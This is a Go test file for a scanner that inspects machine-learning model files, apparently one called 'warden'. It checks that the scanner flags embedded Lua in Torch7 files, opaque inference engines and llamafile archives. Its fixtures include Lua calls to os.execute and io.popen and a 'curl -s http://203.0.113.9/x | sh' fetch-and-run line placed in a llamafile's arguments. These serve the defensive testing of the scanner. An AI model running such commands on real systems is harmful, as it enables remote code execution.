package file

import (
	"strings"
	"testing"

	"github.com/modelwarden/warden"
	"github.com/modelwarden/warden/detect"
	"github.com/modelwarden/warden/detect/detecttest"
	"github.com/modelwarden/warden/internal/format"
	ft "github.com/modelwarden/warden/internal/format/formattest"
)

func TestLuaFunctions(t *testing.T) {
	network := func(ascii bool, code string) *format.File {
		w := &ft.Torch7{ASCII: ascii}
		w.Object("nn.Linear").Table(2).Text("weight").Tensor(1, 2, 3).Text("note").Text("os.execute is not called")
		if code != "" {
			w = &ft.Torch7{ASCII: ascii}
			w.Object("nn.Linear").Table(1).Text("updateOutput").Function(code)
		}
		f := open(t, "m.t7", w.Bytes())
		if f.Format != "torch7" || len(f.Unread) > 0 {
			t.Errorf("%q %v", f.Format, f.Unread)
		}
		return f
	}
	lua := []warden.RuleID{ruleLua}
	detecttest.Accept(t, luaFunctions, []fileCase{
		{Name: "tensors", Subject: network(false, "")},
		{Name: "tensors_ascii", Subject: network(true, "")},
		{Name: "bytecode", Subject: network(false, ft.LuaJIT("os", "execute")), Want: lua},
		{Name: "bytecode_ascii", Subject: network(true, ft.LuaJIT("math", "sin")), Want: lua},
		{Name: "source", Subject: network(false, "return io.popen('id')"), Want: lua},
	})
	for code, want := range map[string]warden.Severity{
		ft.LuaJIT("os", "execute"):                      warden.Critical,
		ft.LuaJIT("popen", strings.Repeat("x", 43)):     warden.Critical,
		"\x1bLua\x51\x00\x04\x07\x00\x00\x00dofile\x00": warden.Critical,
		"io.popen 'id'":                                 warden.Critical,
		ft.LuaJIT("math", "executed"):                   warden.High,
		"reexecute(1)":                                  warden.High,
	} {
		res := detect.Run(t.Context(), warden.Ref{}, network(false, code), detect.DefaultLimits(), luaFunctions)
		if len(res.Findings) != 1 || res.Findings[0].Severity != want {
			t.Errorf("%q: %+v, want %s", code, res.Findings, want)
		}
	}
}

func TestEngines(t *testing.T) {
	engine := func(name, text string) *format.File {
		return open(t, name, []byte("ftrt\x00\x01\x02\xff\x00"+text+"\x00\xfe"))
	}
	one, two := []warden.RuleID{ruleOpaque}, []warden.RuleID{ruleOpaque, ruleOpaque}
	detecttest.Accept(t, engines, []fileCase{
		{Name: "engine", Subject: engine("m.engine", "conv1 + relu"), Want: one},
		{Name: "runtime", Subject: engine("m.plan", "libnvinfer_plugin.so.8"), Want: one},
		{Name: "library", Subject: engine("m.plan", "libcustom_ops.so"), Want: two},
		{Name: "path", Subject: engine("m.plan", "/tmp/libnvinfer.so"), Want: two},
		{Name: "by_name", Subject: open(t, "m.trt", []byte("\x00\xff\x01\x02 layers \xff")), Want: one},
		{Name: "rknn", Subject: open(t, "m.rknn", []byte("RKNN\x00\x00\x00\x00\x06\xff")), Want: one},
		{Name: "text", Subject: open(t, "my.plan", []byte("the plan of the day\n"))},
	})
}

// TestLlamafile is one native program, whatever is in it; the model and the
// arguments are read too.
func TestLlamafile(t *testing.T) {
	gguf := new(ft.GGUF).Pair("tokenizer.chat_template", "{{ x }}").Bytes(nil)
	entries := []ft.ZipEntry{{Name: "m.gguf", Data: gguf}, {Name: ".args", Data: []byte("-m\nm.gguf\n--exec\ncurl -s http://203.0.113.9/x | sh\n")}}
	for name, head := range map[string][]byte{"ape": append([]byte("MZqFpD='\n\n"), make([]byte, 200)...), "elf": ft.ELF()} {
		f := open(t, "m.llamafile", ft.ZipWith(ft.ZipTricks{Prefix: head}, entries...))
		res := detect.Run(t.Context(), warden.Ref{}, f, detect.DefaultLimits(), All()...)
		if f.Format != "llamafile" || len(f.Unread) > 0 || len(res.Findings) != 1 || res.Findings[0].Rule != "WDN-MF-101" {
			t.Errorf("%s: %q %v %v %+v", name, f.Format, f.Also, f.Unread, res.Findings)
		}
		var rules []warden.RuleID
		for m, err := range f.Members(t.Context()) {
			if err != nil {
				t.Fatal(err)
			}
			if m.Name == "m.gguf" && (m.GGUF == nil || len(m.Templates) != 1) {
				t.Errorf("%s: the model is not read", name)
			}
			for _, x := range detect.Run(t.Context(), warden.Ref{}, m, detect.DefaultLimits(), All()...).Findings {
				rules = append(rules, x.Rule)
			}
		}
		if len(rules) != 2 || rules[0] != "WDN-MF-105" || rules[1] != ruleNumeric {
			t.Errorf("%s: %v in the members", name, rules)
		}
	}
	if f := open(t, "a.exe", append([]byte("MZqFpD='\n\n"), make([]byte, 200)...)); f.Kind != "executable" {
		t.Errorf("a program without a model is %q", f.Kind)
	}
}
